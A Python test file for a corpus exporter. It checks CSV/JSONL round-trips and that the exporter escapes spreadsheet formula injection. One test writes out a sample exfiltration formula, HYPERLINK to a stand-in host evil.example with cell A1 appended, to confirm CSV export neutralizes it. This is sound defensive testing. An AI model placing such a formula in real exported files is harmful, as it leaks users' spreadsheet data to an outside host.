"""A corpus leaves as a file that a spreadsheet opens without running anything."""

import csv
import io
import json
from pathlib import Path

import pytest

from trainer.corpus.examples import make_examples
from trainer.corpus.exporting import export
from trainer.corpus.library import Corpus
from trainer.corpus.reading import read_corpus
from trainer.corpus.table import Pair


def test_what_was_exported_reads_back_to_the_same_examples(corpus: Corpus, tmp_path: Path) -> None:
    for format_ in ("csv", "jsonl"):
        file = tmp_path / f"again.{format_}"
        file.write_bytes(export(corpus.examples, format_))
        again = read_corpus(file).examples
        assert [(e.id, e.topic) for e in again] == [(e.id, e.topic) for e in corpus.examples]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_run_as_a_formula_is_made_harmless_in_csv(start: str) -> None:
    bad = f'{start}HYPERLINK("http://evil.example?"&A1)'
    examples = make_examples([Pair(bad, bad, bad)])
    _, row = csv.reader(io.StringIO(export(examples, "csv").decode("utf-8-sig"), newline=""))
    assert row == [f"'{bad}"] * 3
    assert json.loads(export(examples, "jsonl"))["question"] == bad
